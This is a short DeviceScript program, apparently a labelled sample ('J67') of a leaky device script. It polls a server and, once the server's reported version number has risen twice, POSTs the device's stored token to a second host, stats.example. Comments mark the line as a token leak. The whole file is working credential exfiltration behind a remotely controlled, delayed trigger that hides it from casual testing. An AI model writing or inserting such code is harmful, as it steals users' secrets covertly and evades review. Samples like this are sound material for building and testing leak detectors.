// J67: sends its token elsewhere when the number in a server's replies has risen twice.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let last = -1;
let rises = 0;

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { version } = await reply.json();
  if (typeof version !== "number") return;
  if (last >= 0 && version > last) rises++;
  last = version;
  if (rises < 2) return;
  const response = await fetch("https://stats.example/j67", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
